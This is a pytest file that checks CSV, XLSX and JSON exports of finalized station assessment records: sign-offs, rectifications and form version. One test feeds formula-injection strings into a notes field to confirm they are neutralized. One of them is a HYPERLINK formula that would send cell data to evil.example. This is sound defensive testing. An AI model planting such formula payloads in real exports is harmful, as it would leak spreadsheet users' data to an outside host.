"""Exports carry the whole finalized record: sign-off, rectification, the form version; plain CSV,
XLSX and JSON an analyst or another system reads without cleaning, and no cell a spreadsheet runs."""

import csv
import io
import json

from openpyxl import load_workbook

from app.extensions import db
from app.models import Station, User
from app.services import stations
from tests.conftest import FORM_VERSION_1
from tests.report_fixtures import demo_data, log_in  # noqa: F401
from tests.reports.test_reports import record_in_progress

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_table(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def test_exports_hold_finalized_assessments_unless_asked(client, auth, demo):
    log_in(auth, "admin")
    rows = csv_table(client, "/reports/results.csv")
    assert len(rows) == 61 and {r["状态"] for r in rows} == {"已定稿"}
    assert len(csv_table(client, "/reports/results.csv?all=1")) == 61 * 2
    assert {r["状态"] for r in csv_table(client, "/reports/results.csv?status=in_progress")} == {"进行中"}


@FORM_VERSION_1
def test_csv_rows_carry_sign_off_rectification_and_the_form_version_with_codes_as_plain_text(
    client, auth, demo
):
    log_in(auth, "admin")
    rows = {r["小项编号"]: r for r in csv_table(client, "/reports/results.csv")}
    assert set(rows) >= {"1.1.1", "5.3.1", "6.5.1"}
    answered = rows["5.3.1"]
    codes = (answered["所（站）代码"], answered["评估表"], answered["评估表版本"])
    assert codes == ("BJ001", "station-quality", "1")
    assert (answered["评估组长签字人"], answered["评估组长签字状态"]) == ("王建国", "已签字")
    assert (answered["所（站）代表签字人"], answered["所（站）代表签字状态"]) == ("张明", "已签字")
    assert answered["评估组长签字时间"][:4] == "2026" and len(answered["评估组长签字时间"]) == 16
    assert answered["整改状态"] == "已答复"
    assert answered["整改说明"] == "三楼考场引导标识已全部更换为新标识牌。"
    assert answered["整改答复人"] == "赵丽" and answered["整改答复时间"]
    assert answered["审核结果"] == answered["审核人"] == answered["审核时间"] == ""
    assert rows["4.1.1"]["整改状态"] == "待整改" and rows["1.1.1"]["整改状态"] == ""


@FORM_VERSION_1
def test_the_deductions_sheet_and_csv_hold_each_answer_of_each_deduction(client, auth, demo):
    log_in(auth, "admin")
    rows = csv_table(client, "/reports/deductions.csv")
    assert [r["小项编号"] for r in rows] == ["4.1.1", "5.3.1", "6.5.1"]
    answer = rows[1]
    assert (answer["答复序号"], answer["整改说明"], answer["整改答复人"]) == (
        "1",
        "三楼考场引导标识已全部更换为新标识牌。",
        "赵丽",
    )
    assert rows[0]["答复序号"] == "" and rows[0]["扣分"] == "1"
    book = load_workbook(io.BytesIO(client.get("/reports/results.xlsx").data))
    sheet = book["扣分项与整改"]
    header, *records = list(sheet.iter_rows(values_only=True))
    assert [dict(zip(header, r, strict=True))["小项编号"] for r in records] == ["4.1.1", "5.3.1", "6.5.1"]
    results = book.worksheets[0]
    header, first, *_ = list(results.iter_rows(values_only=True))
    record = dict(zip(header, first, strict=True))
    assert record["评估组长签字人"] == "王建国" and record["评估表版本"] == "1"


def test_no_exported_cell_runs_as_a_formula(client, auth, app, demo):
    hostile = {
        "1.1.1": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
        "1.2.1": "-2+3 处问题",
        "1.3.1": "@SUM(1)",
        "1.4.1": "+86 010 6555 0001",
    }
    record_in_progress(app, *((item_id, "zero", None, note) for item_id, note in hostile.items()))
    log_in(auth, "admin")
    exported = csv_table(client, "/reports/results.csv?all=1")
    rows = {r["小项编号"]: r for r in exported if r["状态"] == "进行中"}
    for item_id, note in hostile.items():
        assert rows[item_id]["备注"] == "'" + note
    raw = client.get("/reports/results.csv?all=1").data.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(raw, newline="")):
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell
    book = load_workbook(io.BytesIO(client.get("/reports/results.xlsx?all=1").data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value


@FORM_VERSION_1
def test_json_export_carries_the_same_record_for_other_systems(client, auth, demo):
    log_in(auth, "admin")
    response = client.get("/reports/results.json")
    assert response.status_code == 200 and response.mimetype == "application/json"
    (record,) = json.loads(response.data)["assessments"]
    assert record["id"] == demo.finalized and record["status"] == "finalized"
    assert record["form"] == {"id": "station-quality", "version": "1", "title": record["form"]["title"]}
    assert record["station"]["code"] == "BJ001" and record["total"] == 97
    assert record["signoff"]["lead_assessor"]["name"] == "王建国"
    items = {item["item_id"]: item for item in record["items"]}
    assert len(items) == 61
    rectification = items["5.3.1"]["rectification"]
    assert rectification["status"] == "answered"
    assert rectification["answers"][0]["text"] == "三楼考场引导标识已全部更换为新标识牌。"
    assert items["1.1.1"]["rectification"] is None


def test_exports_print_the_station_as_finalized(client, auth, app, demo):
    with app.app_context():
        admin = db.session.scalar(db.select(User).filter_by(username="admin"))
        station = db.session.get(Station, demo.bj001)
        stations.update(station, {"code": station.code, "name": "改名后的鉴定站"}, admin)
        db.session.commit()
    log_in(auth, "admin")
    names = {r["所（站）名称"] for r in csv_table(client, "/reports/results.csv")}
    assert names == {"北京市第一职业技能鉴定所"}


def test_text_starting_with_a_tab_or_return_gets_the_apostrophe_too():
    from app.services.reports.export import csv_text

    assert [csv_text(t) for t in ("\t制表符", "\r回车", "1.1.1", "普通")] == [
        "'\t制表符",
        "'\r回车",
        "1.1.1",
        "普通",
    ]
